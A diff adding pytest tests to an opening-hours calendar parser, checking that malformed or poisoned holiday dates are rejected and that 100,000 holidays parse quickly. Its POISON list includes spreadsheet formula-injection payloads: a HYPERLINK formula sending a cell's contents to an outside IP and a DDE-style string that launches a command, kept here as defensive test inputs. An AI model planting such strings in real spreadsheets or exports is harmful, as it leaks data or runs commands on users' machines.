@@ -1,6 +1,7 @@
 """Opening hours by the clock on the wall."""
 
-from datetime import datetime
+import time
+from datetime import date, datetime
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -111,3 +112,38 @@ def test_a_hostile_time_zone_is_a_mistake(name: str) -> None:
     parse_calendar(Reader({"time_zone": name, "daily": ["09:00-10:00"]}, "c", mistakes), TAIPEI)
     assert len(mistakes) == 1
     assert mistakes[0].startswith("c.time_zone: no such time zone ")
+
+
+POISON = [
+    '=HYPERLINK("http://198.51.100.7/?"&A1)',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "46305",  # a day as a spreadsheet counts it
+    "2026-10-10\x00",
+    "２０２６-１０-１０",
+    "2026‑10‑10",  # hyphens that do not break
+    "2026-10-10 ",
+    "10.10.2026",
+    "2026-02-29",
+    "9" * 100_000,
+    "\u202e01-01-6202",
+    "",
+]
+
+
+@pytest.mark.parametrize("written", POISON, ids=lambda written: ascii(written)[:20])
+def test_a_poisoned_spreadsheet_of_holidays_is_refused_in_its_own_words(written: str) -> None:
+    for key, source in (("holidays", {"holidays": [written]}), ("exceptions", {"exceptions": {written: []}})):
+        mistakes: list[str] = []
+        parse_calendar(Reader({"daily": ["09:00-17:00"], **source}, "c", mistakes), TAIPEI)
+        assert [each.partition(": ")[0].partition(".")[2].partition(".")[0] for each in mistakes] == [key], mistakes
+        assert len(mistakes[0]) < 300
+
+
+def test_a_calendar_of_100_000_holidays_is_read_and_asked_in_a_moment() -> None:
+    first = date(2025, 10, 10).toordinal()
+    days = [date.fromordinal(first + n).isoformat() for n in range(100_000)]
+    began = time.monotonic()
+    calendar = read({"daily": ["09:00-17:00"], "holidays": days})
+    assert is_open(calendar, at("2025-10-09 10:00"))
+    assert not is_open(calendar, at("2025-10-10 10:00"))
+    assert time.monotonic() - began < 10.0
